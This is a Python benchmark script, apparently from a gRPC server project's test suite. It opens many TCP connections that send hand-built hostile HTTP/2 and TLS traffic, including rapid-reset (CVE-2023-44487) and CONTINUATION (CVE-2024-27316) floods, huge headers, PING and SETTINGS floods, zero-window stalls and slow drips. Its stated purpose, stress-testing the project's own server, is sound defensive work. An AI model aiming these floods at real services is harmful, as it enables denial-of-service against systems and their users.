"""Hostile HTTP/2 peers for servers of gRPC: frames made by hand, over many plain TCP connections.

    python bench/hostile.py KIND HOST:PORT CONNECTIONS SECONDS [PATH]

Each kind is one attack of `KINDS`. A connection that the server closes is opened again at once, until the time is up.
The process prints a line when its connections are there, and a line of JSON at the end. `bench/campaign_doors.py` and
`tests/attacks/test_doors.py` use it.
"""

from __future__ import annotations

import contextlib
import functools
import json
import resource
import selectors
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
DEFAULT_PATH = "/fastrt.coordination.None/None"
_READ_BYTES = 1 << 16
# Frames are made this many streams at a time, and no more are kept unsent for a connection.
_BURST = 64
_PAUSE_S = 0.05
# All peers can send, and none has anything to send now.
_NOTHING_TO_DO_S = 0.005


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def _text(value: str) -> bytes:
    data = value.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, size = len(data) - 127, [127]
    while rest >= 128:
        size.append(rest % 128 + 128)
        rest //= 128
    return bytes([*size, rest]) + data


def header_block(path: str, more: list[tuple[str, str]] | None = None) -> bytes:
    """The headers of a call of gRPC, in HPACK without compression and without the dynamic table."""
    fields = [("te", "trailers"), ("content-type", "application/grpc"), *(more or [])]
    # Static table: 3 is `:method POST`, 6 is `:scheme http`, 1 is the name `:authority`, 4 the name `:path`.
    block = b"\x83\x86\x01" + _text("localhost") + b"\x04" + _text(path)
    return block + b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields)


def settings(*pairs: tuple[int, int]) -> bytes:
    """A SETTINGS frame."""
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def message(body: bytes) -> bytes:
    """A message of gRPC, not compressed."""
    return b"\0" + struct.pack(">I", len(body)) + body


HELLO = PREFACE + settings()


class Peer:
    """One hostile connection.

    Attributes:
        outgoing: bytes to send.
        reads: whether it reads incoming bytes.
    """

    def __init__(self, sock: socket.socket, kind: str, path: str) -> None:
        self.sock = sock
        self.outgoing = bytearray()
        self.reads = True
        self.next_stream = 1
        self.streams = 0
        self.block = header_block(path)
        self.fill: Callable[[], None] = lambda: None
        self.heard: Callable[[bytes], None] = lambda data: None
        KINDS[kind](self)

    def stream(self) -> int:
        """The number of a new stream."""
        number, self.next_stream = self.next_stream, self.next_stream + 2
        self.streams += 1
        return number

    def open_stream(self, flags: int = END_HEADERS) -> int:
        """Open a stream; its request does not end."""
        number = self.stream()
        self.outgoing += frame(HEADERS, flags, number, self.block)
        return number


def _silent(peer: Peer) -> None:
    """Open the connection, then send nothing."""


def _preface(peer: Peer) -> None:
    """The preface of HTTP/2, then nothing."""
    peer.outgoing += PREFACE


def _settings_only(peer: Peer) -> None:
    """The preface and SETTINGS, then nothing."""
    peer.outgoing += HELLO


def _open_streams(peer: Peer) -> None:
    """Streams that never end, as many as are taken, and a thousand more."""
    peer.outgoing += HELLO

    def fill() -> None:
        if peer.streams < 2000:
            for _ in range(_BURST):
                peer.open_stream()

    peer.fill = fill


def _rapid_reset(peer: Peer) -> None:
    """Streams that are reset at once (CVE-2023-44487)."""
    peer.outgoing += HELLO

    def fill() -> None:
        for _ in range(_BURST):
            number = peer.open_stream(END_HEADERS | END_STREAM)
            peer.outgoing += frame(RST_STREAM, 0, number, struct.pack(">I", 8))

    peer.fill = fill


def _large_headers(peer: Peer) -> None:
    """A header of 1 MiB in each stream, in frames of 16 KiB."""
    peer.outgoing += HELLO

    def fill() -> None:
        block = peer.block + b"\x00" + _text("x") + _text("y" * (1 << 20))
        _in_frames(peer, block, ends=True)

    peer.fill = fill


def _continuation(peer: Peer) -> None:
    """Headers without an end (CVE-2024-27316)."""
    peer.outgoing += HELLO
    number = peer.stream()
    peer.outgoing += frame(HEADERS, END_STREAM, number, peer.block)
    more = b"".join(b"\x00" + _text(f"x{n}") + _text("y" * 100) for n in range(100))

    def fill() -> None:
        peer.outgoing += frame(CONTINUATION, 0, number, more)

    peer.fill = fill


def _in_frames(peer: Peer, block: bytes, ends: bool) -> None:
    number, at, size = peer.stream(), 0, 16384
    while at < len(block):
        last = ends and at + size >= len(block)
        kind = CONTINUATION if at else HEADERS
        peer.outgoing += frame(kind, END_HEADERS if last else 0, number, block[at : at + size])
        at += size


def _pings(peer: Peer) -> None:
    """PING after PING, without reading the answers."""
    peer.outgoing += HELLO
    peer.reads = False
    burst = frame(PING, 0, 0, b"12345678") * _BURST

    def fill() -> None:
        peer.outgoing += burst

    peer.fill = fill


def _settings_flood(peer: Peer) -> None:
    """SETTINGS after SETTINGS, without reading the acknowledgements."""
    peer.outgoing += HELLO
    peer.reads = False
    burst = settings((INITIAL_WINDOW_SIZE, 1)) * _BURST

    def fill() -> None:
        peer.outgoing += burst

    peer.fill = fill


def _drip(peer: Peer) -> None:
    """Requests that come a byte at a time, in 16 streams."""
    peer.outgoing += HELLO
    numbers = [peer.open_stream() for _ in range(16)]
    for number in numbers:
        peer.outgoing += frame(DATA, 0, number, b"\0" + struct.pack(">I", 8 << 20))

    def fill() -> None:
        for number in numbers:
            peer.outgoing += frame(DATA, 0, number, b"x")

    peer.fill = fill


def _unread(peer: Peer) -> None:
    """Calls without a request, with a window of 0, so that no answer can be sent."""
    peer.outgoing += PREFACE + settings((INITIAL_WINDOW_SIZE, 0))
    peer.reads = False

    def fill() -> None:
        for _ in range(_BURST):
            number = peer.open_stream()
            peer.outgoing += frame(DATA, END_STREAM, number, message(b""))

    peer.fill = fill


def _reflection(peer: Peer) -> None:
    """Requests of reflection in one stream, each for a file of descriptors, without reading the answers."""
    peer.outgoing += PREFACE + settings((INITIAL_WINDOW_SIZE, 0))
    peer.block = header_block("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
    number = peer.open_stream()
    request = message(b"\x22\x15" + b"grpc.health.v1.Health")  # file_containing_symbol
    burst = frame(DATA, 0, number, request) * _BURST

    def fill() -> None:
        peer.outgoing += burst

    peer.fill = fill


def _garbage(peer: Peer) -> None:
    """Bytes that no protocol begins with."""
    peer.outgoing += bytes(range(255, 0, -1)) * 16


def _hello(peer: Peer) -> None:
    """The first message of a TLS handshake, then nothing."""
    _Handshake(peer, ssl.TLSVersion.TLSv1_3)
    peer.heard = lambda data: None


def _stranger(peer: Peer) -> None:
    """A whole TLS handshake without a certificate."""
    _Handshake(peer, ssl.TLSVersion.TLSv1_3)


def _old_tls(peer: Peer) -> None:
    """A whole handshake of TLS 1.2 without a certificate."""
    _Handshake(peer, ssl.TLSVersion.TLSv1_2)


class _Handshake:
    """A TLS client that checks nothing."""

    def __init__(self, peer: Peer, version: ssl.TLSVersion) -> None:
        self._peer = peer
        self._incoming, self._outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self._tls = _context(version).wrap_bio(self._incoming, self._outgoing)
        self._is_done = False
        peer.heard = self._heard
        self._go_on()

    def _heard(self, data: bytes) -> None:
        self._incoming.write(data)
        self._go_on()

    def _go_on(self) -> None:
        try:
            if not self._is_done:
                self._tls.do_handshake()
                self._is_done = True
                self._tls.write(HELLO)
            self._tls.read(_READ_BYTES)
        except ssl.SSLWantReadError:
            pass
        except ssl.SSLError as error:
            raise ConnectionError(error) from None
        finally:
            self._peer.outgoing += self._outgoing.read()


@functools.cache
def _context(version: ssl.TLSVersion) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.minimum_version = context.maximum_version = version
    context.set_alpn_protocols(["h2"])
    return context


KINDS: dict[str, Callable[[Peer], None]] = {
    "silent": _silent,
    "preface": _preface,
    "settings": _settings_only,
    "streams": _open_streams,
    "reset": _rapid_reset,
    "headers": _large_headers,
    "continuation": _continuation,
    "pings": _pings,
    "settings-flood": _settings_flood,
    "drip": _drip,
    "unread": _unread,
    "reflection": _reflection,
    "garbage": _garbage,
    "hello": _hello,
    "stranger": _stranger,
    "tls12": _old_tls,
}


class Attack:
    """Many hostile connections to one address.

    Args:
        kind: of `KINDS`.
        address: `host:port`.
        count: of connections that are kept open.
        path: of the calls.
        bytes_max: to send in all; then the connections are kept and send nothing more.
        rate: bytes a second to send and receive in all; None: without a limit.
    """

    peer_kind: type[Peer] = Peer

    def __init__(
        self,
        kind: str,
        address: str,
        count: int,
        path: str = DEFAULT_PATH,
        bytes_max: float = float("inf"),
        rate: float | None = None,
    ) -> None:
        self.kind, self.count, self.path = kind, count, path
        host, _, port = address.rpartition(":")
        self._target: tuple[str, int] | str = (host, int(port))  # a text is the name of a Unix socket
        self._bytes_max = bytes_max
        self._rate = rate
        self._began = time.monotonic()
        self._selector = selectors.DefaultSelector()
        self.peers: set[Peer] = set()
        self.closed = self.sent = self.received = self.opened = self.refused = 0

    def run(self, until: float, up: Callable[[], None] = lambda: None) -> None:
        """Attack until a time of the monotonic clock; `up` is called once all connections have been opened."""
        announced = False
        while (now := time.monotonic()) < until:
            self._open(now)
            if not announced and self.opened + self.refused >= self.count:
                announced = True
                up()
            before = self.sent + self.received
            for key, events in self._selector.select(_PAUSE_S):
                self._serve(key.data, events)
            if self.sent + self.received == before:
                time.sleep(_NOTHING_TO_DO_S)

    def close(self) -> None:
        """Close all connections."""
        for peer in list(self.peers):
            self._drop(peer)
        self._selector.close()

    def _is_paced(self, now: float) -> bool:
        """Whether sent and received bytes have reached the limit at this time."""
        return self._rate is not None and self.sent + self.received > (now - self._began) * self._rate

    def _open(self, now: float) -> None:
        for _ in range(min(64, self.count - len(self.peers))):
            if self._is_paced(now) or not self._connect():
                return

    def _connect(self) -> bool:
        """Open one connection; False when it cannot be opened."""
        sock = socket.socket(socket.AF_UNIX if isinstance(self._target, str) else socket.AF_INET)
        sock.setblocking(False)
        try:
            with contextlib.suppress(BlockingIOError):
                sock.connect(self._target)
        except OSError:
            sock.close()
            self.refused += 1
            return False
        self.opened += 1
        peer = self.peer_kind(sock, self.kind, self.path)
        self.peers.add(peer)
        self._selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, peer)
        return True

    def _serve(self, peer: Peer, events: int) -> None:
        try:
            if events & selectors.EVENT_READ and not self._read(peer):
                self._drop(peer)
            elif events & selectors.EVENT_WRITE:
                self._write(peer)
        except OSError:
            self._drop(peer)

    def _read(self, peer: Peer) -> bool:
        if not peer.reads:
            # Without reading, the end of the connection is only seen by writing.
            self._selector.modify(peer.sock, selectors.EVENT_WRITE, peer)
            return True
        data = peer.sock.recv(_READ_BYTES)
        self.received += len(data)
        peer.heard(data)
        if peer.outgoing:
            self._selector.modify(peer.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, peer)
        return bool(data)

    def _write(self, peer: Peer) -> None:
        if not peer.outgoing and self.sent < self._bytes_max and not self._is_paced(time.monotonic()):
            peer.fill()
        if peer.outgoing:
            sent = peer.sock.send(peer.outgoing)
            self.sent += sent
            del peer.outgoing[:sent]
        elif peer.reads and peer.fill.__name__ != "fill":
            self._selector.modify(peer.sock, selectors.EVENT_READ, peer)

    def _drop(self, peer: Peer) -> None:
        self.peers.discard(peer)
        self.closed += 1
        self._selector.unregister(peer.sock)
        peer.sock.close()


def main() -> None:
    """Attack by the arguments of the command line."""
    kind, address, count, seconds = sys.argv[1:5]
    path = sys.argv[5] if len(sys.argv) > 5 else DEFAULT_PATH
    bytes_max = float(sys.argv[6]) if len(sys.argv) > 6 else float("inf")
    rate = float(sys.argv[7]) if len(sys.argv) > 7 else None
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Attack(kind, address, int(count), path, bytes_max, rate)
    attack.run(time.monotonic() + float(seconds), lambda: print("up", flush=True))
    report = {"open": len(attack.peers), "closed": attack.closed, "sent": attack.sent, "opened": attack.opened}
    attack.close()
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
